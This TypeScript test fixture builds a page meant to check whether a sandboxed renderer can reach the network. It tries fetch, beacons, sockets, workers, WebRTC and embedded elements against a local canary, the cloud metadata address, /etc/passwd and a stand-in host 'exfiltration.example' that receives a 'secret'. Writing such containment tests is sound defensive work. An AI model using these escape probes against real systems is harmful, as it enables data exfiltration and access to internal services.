import { troublePage } from './look.ts';

/**
 * A page that tries every way out: other hosts, private addresses, cloud metadata, files, the reader's own machine.
 * It reports each try in a list, so that a capture shows what it achieved; the canary's log shows what it reached.
 */
export function escapePage(canaryPort: number): string {
  const canary = `127.0.0.1:${canaryPort}`;
  const targets = {
    canary: `http://${canary}/reached-by-ip`,
    localhost: `http://localhost:${canaryPort}/reached-by-name`,
    ipv6: `http://[::1]:${canaryPort}/reached-by-ipv6`,
    mapped: `http://[::ffff:127.0.0.1]:${canaryPort}/reached-by-mapped`,
    decimal: `http://2130706433:${canaryPort}/reached-by-number`,
    zero: `http://0.0.0.0:${canaryPort}/reached-by-zero`,
    metadata: 'http://169.254.169.254/latest/meta-data/',
    private: 'http://10.0.0.1/',
    elsewhere: 'http://exfiltration.example/collect',
    file: 'file:///etc/passwd',
  };
  return troublePage(
    'Ways out',
    `${elementsThatFetch(targets, canary)}<h1>Ways out</h1><ul id="tries"></ul>${script(targets, canary)}`,
  );
}

function elementsThatFetch(targets: Readonly<Record<string, string>>, canary: string): string {
  const everyAddress = Object.values(targets)
    .map((url) => `<img src="${url}?by=img" alt=""><iframe src="${url}?by=iframe" title="try"></iframe>`)
    .join('');
  return `<link rel="prefetch" href="http://${canary}/prefetch"><link rel="preconnect" href="http://${canary}">
<link rel="stylesheet" href="http://${canary}/style.css"><style>@import url("http://${canary}/import.css"); h1 { background: url("http://${canary}/background.png"); }</style>
<object data="http://${canary}/object"></object><embed src="http://${canary}/embed"><video src="http://${canary}/video.mp4"></video>
<script src="http://${canary}/script.js"></script><div hidden>${everyAddress}</div>`;
}

function script(targets: Readonly<Record<string, string>>, canary: string): string {
  return `<script type="module">
  const list = document.getElementById('tries');
  const report = (what, outcome) => { const item = document.createElement('li'); item.textContent = what + ': ' + outcome; list.append(item); };
  const noAnswer = () => new Promise((resolve) => setTimeout(resolve, 2000, 'no answer'));
  const tries = [];
  const attempt = (what, act) => tries.push(
    Promise.race([Promise.resolve().then(act), noAnswer()]).then((outcome) => report(what, outcome), (error) => report(what, 'stopped (' + error.name + ')')),
  );
  for (const [name, url] of Object.entries(${JSON.stringify(targets)})) {
    attempt('fetch ' + name, async () => { await fetch(url, { mode: 'no-cors' }); return 'REACHED'; });
    attempt('beacon ' + name, () => navigator.sendBeacon(url, 'secret') ? 'queued' : 'stopped');
  }
  attempt('websocket', () => new Promise((resolve) => {
    const socket = new WebSocket('ws://${canary}/socket');
    socket.onopen = () => resolve('REACHED');
    socket.onerror = () => resolve('stopped');
  }));
  attempt('event source', () => new Promise((resolve) => {
    const source = new EventSource('http://${canary}/events');
    source.onopen = () => resolve('REACHED');
    source.onerror = () => { source.close(); resolve('stopped'); };
  }));
  attempt('import', async () => { await import('http://${canary}/module.js'); return 'REACHED'; });
  attempt('worker', () => new Promise((resolve) => {
    const code = new Blob(["fetch('http://${canary}/worker', { mode: 'no-cors' }).then(() => postMessage('REACHED'), () => postMessage('stopped'))"]);
    const worker = new Worker(URL.createObjectURL(code));
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => resolve('stopped');
  }));
  attempt('webrtc', async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${canary}' }] });
    peer.createDataChannel('out');
    await peer.setLocalDescription(await peer.createOffer());
    return 'tried';
  });
  attempt('window', () => window.open('http://${canary}/window') === null ? 'stopped' : 'OPENED');
  attempt('download', () => { const a = document.createElement('a'); a.href = 'data:text/plain,secret'; a.download = 'dropped.txt'; a.click(); return 'tried'; });
  await Promise.all(tries);
  report('all tries', 'done');
</script>`;
}
